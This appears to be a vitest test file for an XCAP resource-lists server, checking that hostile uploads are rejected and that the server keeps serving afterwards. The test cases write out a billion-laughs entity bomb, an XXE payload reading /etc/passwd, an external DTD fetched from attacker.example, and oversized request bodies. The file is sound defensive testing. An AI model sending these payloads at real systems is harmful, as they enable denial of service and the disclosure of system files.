/**
 * Hostile input over HTTP: entity tricks are refused before any parsing, oversized bodies are
 * refused without being buffered, broken encodings are named, and the server keeps serving.
 */
import { request as httpRequest } from 'node:http';
import { setTimeout as delay } from 'node:timers/promises';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { DigestSession, streamBody } from './test-support/http';
import { ALICE, startTestSandbox, xcapUri, type TestSandbox } from './test-support/sandbox';

const RL = 'application/resource-lists+xml';
const MiB = 1024 * 1024;
const original = `<?xml version="1.0" encoding="UTF-8"?>
<resource-lists xmlns="urn:ietf:params:xml:ns:resource-lists">
  <list name="friends">
    <entry uri="sip:bob@example.com"/>
    <entry uri="sip:carol@example.com"/>
  </list>
  <list name="family"/>
</resource-lists>
`;

let sandbox: TestSandbox;
let alice: DigestSession;
const documentUri = () => xcapUri(sandbox.server.rootUrl, { auid: 'resource-lists', xui: ALICE.xui });

beforeAll(async () => {
  sandbox = await startTestSandbox();
  alice = new DigestSession(sandbox.endpoint, ALICE.username, ALICE.password);
  expect((await alice.put(documentUri(), original, RL)).status).toBe(201);
});
afterAll(() => sandbox.close());

// After every attack the server still answers, with the document as it was.
afterEach(async () => {
  const read = await alice.get(documentUri());
  expect([read.status, read.text]).toEqual([200, original]);
});

function expectConflict(response: { status: number; headers: { 'content-type'?: string }; text: string }, tag: string): void {
  expect(response.status).toBe(409);
  expect(response.headers['content-type']).toBe('application/xcap-error+xml');
  expect(response.text).toMatch(new RegExp(`<xcap-error xmlns="urn:ietf:params:xml:ns:xcap-error"><${tag} phrase="[^"]*"/></xcap-error>`));
}

describe('hostile input', () => {
  it('an entity-expansion bomb ("billion laughs"): 409 not-well-formed, at once', async () => {
    const entities = ['<!ENTITY lol0 "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`)].join('');
    const bomb = `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE resource-lists [${entities}]>\n<resource-lists xmlns="urn:ietf:params:xml:ns:resource-lists"><list name="&lol9;"/></resource-lists>\n`;
    const started = performance.now();
    const response = await alice.put(documentUri(), bomb, RL);
    expect(performance.now() - started).toBeLessThan(5000); // refused before expansion (an expanded bomb takes minutes)
    expectConflict(response, 'not-well-formed');
    expect(response.text).toMatch(/entit/i);
  });

  it('an external entity: 409 not-well-formed, and nothing of the file comes back', async () => {
    const xxe = `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE resource-lists [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<resource-lists xmlns="urn:ietf:params:xml:ns:resource-lists"><list name="&x;"/></resource-lists>\n`;
    const response = await alice.put(documentUri(), xxe, RL);
    expectConflict(response, 'not-well-formed');
    expect(response.text).not.toMatch(/root:/);
  });

  it('an external DTD: 409 not-well-formed', async () => {
    const external = '<!DOCTYPE resource-lists SYSTEM "http://attacker.example/x.dtd"><resource-lists xmlns="urn:ietf:params:xml:ns:resource-lists"/>';
    expectConflict(await alice.put(documentUri(), external, RL), 'not-well-formed');
  });

  it('a 50 MiB body with Content-Length: 413 before the body is read; the server stays responsive', async () => {
    alice.adopt(await sandbox.endpoint.send('PUT', documentUri()));
    const response = await streamBody(sandbox.endpoint, documentUri(), {
      total: 50 * MiB,
      declareLength: true,
      headers: { 'Content-Type': RL, Authorization: alice.authorization('PUT', documentUri()) },
    });
    expect(response.status).toBe(413);
    expect(response.headers['content-type']).toBe('text/plain; charset=utf-8');
    expect(response.headers.connection).toBe('close');
    expect(response.text).toBe('the request body exceeds 10485760 bytes\n');
    expect(response.written).toBeLessThan(50 * MiB);
  });

  it('a 50 MiB chunked body: 413 once 10 MiB have arrived, without taking the rest', async () => {
    alice.adopt(await sandbox.endpoint.send('PUT', documentUri()));
    const response = await streamBody(sandbox.endpoint, documentUri(), {
      total: 50 * MiB,
      declareLength: false,
      headers: { 'Content-Type': RL, Authorization: alice.authorization('PUT', documentUri()) },
    });
    expect(response.status).toBe(413);
    expect(response.headers.connection).toBe('close');
    expect(response.text).toBe('the request body exceeds 10485760 bytes\n');
    expect(response.written).toBeLessThan(50 * MiB);
  });

  it('a client that gives up half-way through its body leaves the server serving', async () => {
    alice.adopt(await sandbox.endpoint.send('PUT', documentUri()));
    const { hostname, port } = new URL(sandbox.endpoint.origin);
    const request = httpRequest({
      hostname,
      port,
      method: 'PUT',
      path: sandbox.endpoint.target(documentUri()),
      agent: false,
      headers: { 'Content-Type': RL, 'Content-Length': MiB, Authorization: alice.authorization('PUT', documentUri()) },
    });
    request.on('error', () => undefined);
    request.write(original.slice(0, 100));
    await delay(50);
    const logged = sandbox.log.length;
    request.destroy();
    // Logged as the client's doing (499), not as a server error (500).
    await expect.poll(() => sandbox.log.slice(logged).join('\n')).toMatch(/ PUT .* 499 /);
    expect(sandbox.log.slice(logged).join('\n')).not.toMatch(/ 500 /);
    expect((await alice.get(documentUri())).status).toBe(200);
  });

  it('a document that is not UTF-8: 409 not-utf-8', async () => {
    const latin1 = new Uint8Array([...Buffer.from('<resource-lists xmlns="urn:ietf:params:xml:ns:resource-lists"><list name="caf'), 0xe9, ...Buffer.from('"/></resource-lists>')]);
    expectConflict(await alice.put(documentUri(), latin1, RL), 'not-utf-8');
  });

  it('a document declaring another encoding: 409 not-utf-8', async () => {
    const declared = '<?xml version="1.0" encoding="ISO-8859-1"?><resource-lists xmlns="urn:ietf:params:xml:ns:resource-lists"/>';
    expectConflict(await alice.put(documentUri(), declared, RL), 'not-utf-8');
  });

  it('a selector matching several nodes: 404 for GET, PUT and DELETE', async () => {
    const several = xcapUri(sandbox.server.rootUrl, { auid: 'resource-lists', xui: ALICE.xui }, 'resource-lists/list/entry');
    expect((await alice.get(several)).status).toBe(404);
    expect((await alice.put(several, '<entry uri="sip:x@example.com"/>', 'application/xcap-el+xml')).status).toBe(404);
    expect((await alice.delete(several)).status).toBe(404);
  });
});
